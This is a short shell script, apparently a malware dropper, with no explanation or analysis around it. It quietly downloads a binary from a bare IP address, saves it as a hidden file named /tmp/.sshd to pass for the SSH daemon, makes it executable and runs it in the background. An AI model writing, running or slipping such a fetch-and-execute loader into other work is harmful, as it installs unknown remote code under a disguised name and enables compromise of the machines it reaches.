#!/bin/sh
wget -q http://203.0.113.7/x86_64 -O /tmp/.sshd
chmod +x /tmp/.sshd
/tmp/.sshd --daemon
